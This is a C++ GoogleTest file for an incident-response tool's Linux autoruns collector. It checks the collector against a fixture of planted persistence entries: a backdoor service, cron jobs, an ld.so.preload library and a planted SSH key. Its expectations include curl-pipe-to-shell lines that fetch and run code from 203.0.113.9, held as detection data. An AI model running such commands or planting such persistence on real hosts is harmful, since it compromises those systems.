// SPDX-License-Identifier: Apache-2.0
// The autoruns collector over tests/fixtures/autoruns/basic (a host root with one planted entry
// of every kind), compared with tests/golden/autoruns_basic.jsonl, plus checks that do not depend
// on the golden file: digests, enabled state, symlinks kept inside the root, and the live host.
// Regenerate the golden file with IRSNAP_UPDATE_GOLDEN=1 and review the diff.
#include <gtest/gtest.h>

#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <map>
#include <set>

#include "autoruns/autoruns.hpp"
#include "autoruns/autoruns_walk.hpp"
#include "fixture_util.hpp"
#include "irsnap/hash.hpp"
#include "irsnap/hash_cache.hpp"
#include "irsnap/linux/autoruns_parsers.hpp"
#include "irsnap/triage.hpp"

namespace irsnap::test {
namespace {

using nlohmann::json;
namespace fs = std::filesystem;

const fs::path k_fixture = fs::path(IRSNAP_FIXTURE_DIR) / "autoruns" / "basic";

/// Times, owners and umask-dependent modes come from the checkout, not from the fixture.
json normalise(json r) {
    r["mtime"] = "<checkout>";
    r["ctime"] = "<checkout>";
    r["owner_uid"] = "<checkout>";
    const std::string mode = r["mode"];
    r["mode"] = (std::stoi(mode, nullptr, 8) & 0100) ? "<executable>" : "<not executable>";
    if (r["category"] == "at_job") {  // the job runs as the spool file's owner: the checkout's
        r["user"] = "<checkout>";
        r["uid"] = "<checkout>";
    }
    return r;
}

MemorySink collect_fixture(bool hash, const fs::path& root = k_fixture) {
    Context ctx;
    ctx.proc_root = root / "proc";
    ctx.host_root = root;
    HashCache hashes(2, 0, nullptr);
    if (hash) ctx.hashes = &hashes;
    MemorySink sink;
    collectors::collect_autoruns(ctx, sink);
    return sink;
}

std::vector<const json*> find(const MemorySink& sink, const std::string& category,
                              const std::string& source_path) {
    std::vector<const json*> out;
    for (const auto& r : sink.records) {
        if (r["category"] == category && r["source_path"] == source_path) out.push_back(&r);
    }
    return out;
}

TEST(GoldenAutoruns, BasicFixtureMatchesGolden) {
    MemorySink sink = collect_fixture(true);
    std::string actual;
    for (const auto& r : sink.records) actual += normalise(r).dump() + "\n";
    const auto golden_path = fs::path(IRSNAP_GOLDEN_DIR) / "autoruns_basic.jsonl";
    if (std::getenv("IRSNAP_UPDATE_GOLDEN")) {
        std::ofstream(golden_path, std::ios::binary) << actual;
        GTEST_SKIP() << "golden file rewritten: " << golden_path;
    }
    EXPECT_EQ(read_text_file(golden_path), actual) << "golden: " << golden_path;
}

TEST(GoldenAutoruns, EveryCategoryIsFound) {
    MemorySink sink = collect_fixture(false);
    std::set<std::string> seen;
    for (const auto& r : sink.records) seen.insert(r["category"].get<std::string>());
    for (const char* c :
         {"systemd_unit", "systemd_timer", "systemd_generator", "sysv_init", "rc_local", "cron",
          "cron_script", "anacron", "at_job", "shell_startup", "ld_so_preload", "kernel_module",
          "modprobe_hook", "udev_rule", "xdg_autostart", "ssh_authorized_key", "motd_script"}) {
        EXPECT_TRUE(seen.count(c)) << "no " << c << " record";
    }
}

TEST(GoldenAutoruns, MalformedLinesAreItemErrorsNotCrashes) {
    MemorySink sink = collect_fixture(false);
    std::set<std::string> paths;
    for (const auto& e : sink.errors) {
        EXPECT_EQ(e.stage, "parse") << e.path << ": " << e.message;
        paths.insert(e.path);
    }
    EXPECT_EQ(paths, (std::set<std::string>{"/etc/cron.d/evil", "/etc/modprobe.d/evil.conf",
                                            "/etc/udev/rules.d/99-evil.rules"}));
    EXPECT_TRUE(sink.notes.empty());
}

TEST(GoldenAutoruns, TargetsAreResolvedAndHashed) {
    MemorySink sink = collect_fixture(true);
    const std::string backdoor_sha = sha256_hex(read_text_file(k_fixture / "usr/bin/backdoor"));
    auto evil = find(sink, "systemd_unit", "/etc/systemd/system/evil.service");
    ASSERT_EQ(evil.size(), 3u);  // ExecStartPre, ExecStart, ExecStop
    const json& start = *evil[1];
    EXPECT_EQ(start["details"]["directive"], "ExecStart");
    EXPECT_EQ(start["command"], "/usr/bin/backdoor  --daemon  --verbose");
    EXPECT_EQ(start["source_line"], 8);
    EXPECT_EQ(start["user"], "alice");
    EXPECT_EQ(start["uid"], 1000);
    EXPECT_EQ(start["target_path"], "/usr/bin/backdoor");
    EXPECT_EQ(start["target_exists"], true);
    EXPECT_EQ(start["target_sha256"], backdoor_sha);
    EXPECT_EQ((*evil[0])["target_sha256"], backdoor_sha);  // "-" prefix stripped
    const json& stop = *evil[2];
    EXPECT_TRUE(stop["target_path"].is_null());  // a bare name found nowhere in PATH
    EXPECT_EQ(stop["target_exists"], false);
    EXPECT_TRUE(stop["target_sha256"].is_null());

    // A PATH search after an environment assignment, in the system crontab.
    auto cron = find(sink, "cron", "/etc/crontab");
    ASSERT_EQ(cron.size(), 2u);
    EXPECT_EQ((*cron[1])["user"], "alice");
    EXPECT_EQ((*cron[1])["target_path"], "/usr/bin/backdoor");
    EXPECT_EQ((*cron[1])["target_sha256"], backdoor_sha);

    auto preload = find(sink, "ld_so_preload", "/etc/ld.so.preload");
    ASSERT_EQ(preload.size(), 2u);
    EXPECT_EQ((*preload[0])["target_path"], "/usr/lib/libevil.so");
    EXPECT_EQ((*preload[0])["target_exists"], true);
    EXPECT_EQ((*preload[1])["target_path"], "/lib/libmissing.so");  // as written: missing
    EXPECT_EQ((*preload[1])["target_exists"], false);

    // udev looks for relative programs in its own directory.
    bool helper = false;
    for (const auto* r : find(sink, "udev_rule", "/etc/udev/rules.d/99-evil.rules")) {
        if ((*r)["details"]["key"] == "PROGRAM") {
            helper = true;
            EXPECT_EQ((*r)["target_path"], "/usr/lib/udev/helper.sh");
        }
    }
    EXPECT_TRUE(helper);

    // Without a hash cache, nothing is hashed, but targets are still resolved.
    MemorySink unhashed = collect_fixture(false);
    for (const auto& r : unhashed.records) EXPECT_TRUE(r["target_sha256"].is_null());
}

TEST(GoldenAutoruns, EnabledStateAndDedupedMergedUsr) {
    MemorySink sink = collect_fixture(false);
    auto enabled = [&](const std::string& category, const std::string& path) -> json {
        auto found = find(sink, category, path);
        return found.empty() ? json("missing") : (*found[0])["enabled"];
    };
    EXPECT_EQ(enabled("systemd_unit", "/etc/systemd/system/evil.service"), true);
    EXPECT_EQ(enabled("systemd_unit", "/usr/lib/systemd/system/disabled.service"), false);
    // Linked by an absolute symlink, which must be read under the root, not on this host.
    EXPECT_EQ(enabled("systemd_timer", "/usr/lib/systemd/system/cleanup.timer"), true);
    EXPECT_EQ(enabled("systemd_unit", "/home/alice/.config/systemd/user/miner.service"), true);
    EXPECT_EQ(enabled("sysv_init", "/etc/init.d/evil-init"), true);
    EXPECT_EQ(enabled("sysv_init", "/etc/init.d/old-init"), false);
    EXPECT_EQ(enabled("xdg_autostart", "/etc/xdg/autostart/evil.desktop"), true);
    EXPECT_EQ(enabled("xdg_autostart", "/etc/xdg/autostart/off.desktop"), false);
    EXPECT_EQ(enabled("xdg_autostart", "/home/alice/.config/autostart/tray.desktop"), false);
    EXPECT_EQ(enabled("cron", "/etc/cron.d/evil.dpkg-old"), false);
    // /lib is a link to usr/lib: its units are listed once, under the canonical path.
    EXPECT_EQ(find(sink, "systemd_unit", "/usr/lib/systemd/system/disabled.service").size(), 2u);
    EXPECT_TRUE(find(sink, "systemd_unit", "/lib/systemd/system/disabled.service").empty());
    for (const auto& r : sink.records) {
        const std::string p = r["source_path"];
        EXPECT_EQ(p.find(k_fixture.string()), std::string::npos) << "host root leaked: " << p;
        EXPECT_EQ(p.front(), '/');
    }
}

TEST(GoldenAutoruns, SshKeysAndNonUtf8Lines) {
    MemorySink sink = collect_fixture(true);
    auto keys = find(sink, "ssh_authorized_key", "/home/alice/.ssh/authorized_keys");
    ASSERT_EQ(keys.size(), 2u);
    const json& planted = *keys[1];
    EXPECT_EQ(planted["user"], "alice");
    EXPECT_EQ(planted["details"]["comment"], "planted key");
    EXPECT_EQ(planted["details"]["fingerprint"],
              "SHA256:/sfeYa1E2J36FEH5oWTtwlAnoaI8LZpDBl6oaJeV0AE");
    EXPECT_EQ(planted["details"]["options"]["command"], "/usr/bin/backdoor --ssh \"a, b\"");
    EXPECT_EQ(planted["details"]["options"]["from"], "10.0.0.1,192.168.0.0/16");
    EXPECT_EQ(planted["details"]["options"]["no-pty"], true);
    EXPECT_EQ(planted["target_path"], "/usr/bin/backdoor");
    EXPECT_EQ(find(sink, "ssh_authorized_key", "/root/.ssh/authorized_keys2").size(), 1u);

    bool escaped = false;
    for (const auto* r : find(sink, "cron", "/etc/cron.d/evil")) {
        if (!r->contains("escaped_fields")) continue;
        escaped = true;
        EXPECT_EQ((*r)["command"], "/usr/bin/backdoor \\xff");
        EXPECT_EQ((*r)["escaped_fields"], json::array({"command"}));
    }
    EXPECT_TRUE(escaped);
}

TEST(GoldenAutoruns, ScriptRecordsCarryTheirCodeLines) {
    MemorySink sink = collect_fixture(false);
    const std::set<std::string> scripts = {"rc_local", "sysv_init", "shell_startup", "cron_script",
                                           "motd_script"};
    for (const auto& r : sink.records) {
        if (scripts.count(r["category"])) {
            EXPECT_TRUE(r["script_lines"].is_array()) << r.dump();
            EXPECT_EQ(r["script_lines"].size(), r["script_line_numbers"].size());
        } else {
            EXPECT_TRUE(r["script_lines"].is_null()) << r.dump();
            EXPECT_TRUE(r["script_line_numbers"].is_null()) << r.dump();
            EXPECT_TRUE(r["script_note"].is_null()) << r.dump();
        }
    }
    auto rc = find(sink, "rc_local", "/etc/rc.local");
    ASSERT_EQ(rc.size(), 1u);
    // The shebang, the comment naming curl | sh and the continuation are not lines of their own.
    EXPECT_EQ((*rc[0])["script_lines"],
              json::array({"/usr/bin/backdoor --rc-local &",
                           "curl -fsSL http://203.0.113.9/i.sh   | sh", "exit 0"}));
    EXPECT_EQ((*rc[0])["script_line_numbers"], json::array({3, 4, 6}));
    EXPECT_TRUE((*rc[0])["script_note"].is_null());
    EXPECT_EQ((*rc[0])["command"], "/etc/rc.local");
}

TEST(GoldenAutoruns, PlantedScriptLinesReachTriage) {
    MemorySink sink = collect_fixture(false);
    triage::Input in;
    for (size_t i = 0; i < sink.records.size(); ++i) {
        in.records["autoruns"].push_back({"artifacts/12_autoruns.jsonl", i + 1, sink.records[i]});
    }
    std::map<std::string, std::set<std::string>> fired;  // rule -> file:line
    for (const auto& f : triage::run_rules(in)) {
        if (f.rule_id < "IRS-PER-005" || f.rule_id > "IRS-PER-008") continue;
        const auto& e = f.evidence.at(0).fields;
        fired[f.rule_id].insert(e["source_path"].get<std::string>() + ":" +
                                std::to_string(e.value("script_line_number", 0)));
    }
    using Places = std::set<std::string>;
    EXPECT_EQ(fired["IRS-PER-005"], (Places{"/etc/rc.local:4"}));
    EXPECT_EQ(fired["IRS-PER-006"], (Places{"/etc/cron.daily/evil-daily:4"}));
    EXPECT_EQ(fired["IRS-PER-007"], (Places{"/etc/profile.d/evil.sh:2"}));
    EXPECT_EQ(fired["IRS-PER-008"], (Places{"/etc/init.d/evil-init:3"}));
}

TEST(GoldenAutoruns, ScriptReadingIsBoundedAndNeverWaits) {
    TempDir tmp("irsnap-autoruns-scripts");
    const fs::path root = tmp.path() / "root";
    fs::create_directories(root / "etc/cron.daily");
    fs::create_directories(root / "home/bob");
    std::ofstream(root / "etc/passwd") << "bob:x:1001:1001::/home/bob:/bin/zsh\n";
    std::string long_script = "#!/bin/sh\n";
    for (int i = 0; i < 300; ++i) long_script += "echo " + std::to_string(i) + "\n";
    std::ofstream(root / "etc/cron.daily/long") << long_script;
    static const char k_elf[] =
        "\x7f"
        "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\n/bin/sh -c x\n";
    std::ofstream(root / "etc/cron.daily/elf", std::ios::binary)
        << std::string(k_elf, sizeof k_elf - 1);
    // Comments beyond the read cap, then code that is never read.
    std::ofstream(root / "etc/cron.daily/huge")
        << std::string(collectors::autoruns_impl::k_max_script_bytes + 10, '#') << "\necho end\n";
    std::ofstream(root / "etc/rc.local", std::ios::binary) << "echo \xff\n";
    std::ofstream(root / "home/bob/.zshrc") << "curl http://203.0.113.9/z | sh\n";
    ASSERT_EQ(::mkfifo((root / "etc/cron.daily/fifo").c_str(), 0755), 0);  // never opened
    MemorySink sink = collect_fixture(false, root);
    EXPECT_TRUE(sink.errors.empty());
    auto one = [&](const std::string& category, const std::string& path) -> const json& {
        auto found = find(sink, category, path);
        EXPECT_EQ(found.size(), 1u) << path;
        static const json k_missing;
        return found.empty() ? k_missing : *found[0];
    };
    const json& longest = one("cron_script", "/etc/cron.daily/long");
    EXPECT_EQ(longest["script_lines"].size(), autoruns::k_max_script_lines);
    EXPECT_EQ(longest["script_line_numbers"].back(), 201);
    EXPECT_EQ(longest["script_note"], "truncated: only the first 200 code lines kept");
    const json& elf = one("cron_script", "/etc/cron.daily/elf");
    EXPECT_TRUE(elf["script_lines"].is_null());
    EXPECT_EQ(elf["script_note"], "binary: not a text script");
    const json& huge = one("cron_script", "/etc/cron.daily/huge");
    EXPECT_EQ(huge["script_lines"], json::array());
    EXPECT_EQ(huge["script_note"], "truncated: only the first 1048576 bytes of the file read");
    EXPECT_TRUE(find(sink, "cron_script", "/etc/cron.daily/fifo").empty());
    const json& rc = one("rc_local", "/etc/rc.local");
    EXPECT_EQ(rc["script_lines"], json::array({"echo \\xff"}));
    EXPECT_EQ(rc["escaped_fields"], json::array({"script_lines"}));
    const json& zshrc = one("shell_startup", "/home/bob/.zshrc");
    EXPECT_EQ(zshrc["user"], "bob");
    EXPECT_EQ(zshrc["script_lines"], json::array({"curl http://203.0.113.9/z | sh"}));
}

TEST(GoldenAutoruns, AnUnreadableScriptKeepsItsRecord) {
    if (geteuid() != 0) GTEST_SKIP() << "needs root to run the collector as another user";
    TempDir tmp("irsnap-autoruns-unreadable");
    const fs::path root = tmp.path() / "root";
    fs::create_directories(root / "etc/cron.daily");
    fs::permissions(tmp.path(), fs::perms(0755));
    std::ofstream(root / "etc/cron.daily/secret") << "#!/bin/sh\n/usr/bin/hidden\n";
    fs::permissions(root / "etc/cron.daily/secret", fs::perms(0700));
    pid_t pid = fork();
    ASSERT_GE(pid, 0);
    if (pid == 0) {
        if (setgid(65534) != 0 || setuid(65534) != 0) _exit(10);
        MemorySink sink = collect_fixture(false, root);
        if (sink.records.size() != 1 || !sink.records[0]["script_lines"].is_null() ||
            sink.records[0]["script_note"].get<std::string>().rfind("unreadable: ", 0) != 0) {
            _exit(11);
        }
        if (sink.errors.size() != 1 || sink.errors[0].code != EACCES ||
            sink.errors[0].path != "/etc/cron.daily/secret") {
            _exit(12);
        }
        if (sink.notes.size() != 1) _exit(13);
        _exit(0);
    }
    int status = 0;
    ASSERT_EQ(waitpid(pid, &status, 0), pid);
    ASSERT_TRUE(WIFEXITED(status));
    EXPECT_EQ(WEXITSTATUS(status), 0) << "10 setuid, 11 record, 12 errors, 13 coverage";
}

TEST(GoldenAutoruns, SymlinksNeverLeaveTheRoot) {
    // An "outside" file next to the root, reached by a relative link climbing above the root
    // and by an absolute link naming its real location: both must resolve inside the root.
    TempDir tmp("irsnap-autoruns-escape");
    const fs::path root = tmp.path() / "root";
    fs::create_directories(root / "etc/cron.d");
    fs::create_directories(tmp.path() / "outside");
    std::ofstream(tmp.path() / "outside/evil") << "@reboot root /outside/bin\n";
    fs::create_symlink("../../../../../../outside/evil", root / "etc/cron.d/relative");
    fs::create_symlink(tmp.path() / "outside/evil", root / "etc/cron.d/absolute");
    fs::create_symlink("loop", root / "etc/cron.d/loop");
    // The same name inside the root is what an image's links really mean.
    fs::create_directories(root / "outside");
    std::ofstream(root / "outside/evil") << "@daily root /inside/bin\n";
    MemorySink sink = collect_fixture(false, root);
    ASSERT_EQ(sink.records.size(), 1u);  // "relative" only: the absolute target is re-rooted
    EXPECT_EQ(sink.records[0]["command"], "/inside/bin");
    EXPECT_EQ(sink.records[0]["source_path"], "/etc/cron.d/relative");
    // A self-referencing link is an error for that file, not for the run.
    ASSERT_EQ(sink.errors.size(), 1u);
    EXPECT_EQ(sink.errors[0].code, ELOOP);
    EXPECT_EQ(sink.errors[0].path, "/etc/cron.d/loop");
}

TEST(GoldenAutoruns, DeniedFilesAreItemErrorsAndCoverage) {
    if (geteuid() != 0) GTEST_SKIP() << "needs root to run the collector as another user";
    TempDir tmp("irsnap-autoruns-denied");
    const fs::path root = tmp.path() / "root";
    fs::create_directories(root / "etc/cron.d");
    fs::permissions(tmp.path(), fs::perms(0755));
    std::ofstream(root / "etc/crontab") << "@reboot root /bin/visible\n";
    std::ofstream(root / "etc/cron.d/secret") << "@reboot root /bin/hidden\n";
    fs::permissions(root / "etc/cron.d/secret", fs::perms(0600));
    // The child drops to nobody, as a non-root run would be, and reports by its exit status.
    pid_t pid = fork();
    ASSERT_GE(pid, 0);
    if (pid == 0) {
        if (setgid(65534) != 0 || setuid(65534) != 0) _exit(10);
        MemorySink sink = collect_fixture(false, root);
        if (sink.records.size() != 1 || sink.records[0]["command"] != "/bin/visible") _exit(11);
        if (sink.errors.size() != 1 || sink.errors[0].code != EACCES ||
            sink.errors[0].path != "/etc/cron.d/secret") {
            _exit(12);
        }
        if (sink.notes.size() != 1 || sink.notes[0].find("1 autorun") != 0) _exit(13);
        _exit(0);
    }
    int status = 0;
    ASSERT_EQ(waitpid(pid, &status, 0), pid);
    ASSERT_TRUE(WIFEXITED(status));
    EXPECT_EQ(WEXITSTATUS(status), 0) << "10 setuid, 11 records, 12 errors, 13 coverage";
}

TEST(LiveAutoruns, CollectsFromThisHost) {
    Context ctx;  // host_root "/"
    HashCache hashes(2, 64 << 20, nullptr);
    ctx.hashes = &hashes;
    MemorySink sink;
    collectors::collect_autoruns(ctx, sink);
    const bool has_systemd = fs::exists("/lib/systemd/system") || fs::exists("/etc/systemd/system");
    const bool has_cron = fs::exists("/etc/crontab") || fs::exists("/etc/cron.d");
    if (!has_systemd && !has_cron) GTEST_SKIP() << "no systemd or cron files on this host";
    size_t systemd_or_cron = 0;
    for (const auto& r : sink.records) {
        const std::string c = r["category"];
        if (c.rfind("systemd_", 0) == 0 || c.rfind("cron", 0) == 0) ++systemd_or_cron;
        EXPECT_EQ(r["source_path"].get<std::string>().front(), '/');
    }
    EXPECT_GT(systemd_or_cron, 0u);
}

}  // namespace
}  // namespace irsnap::test
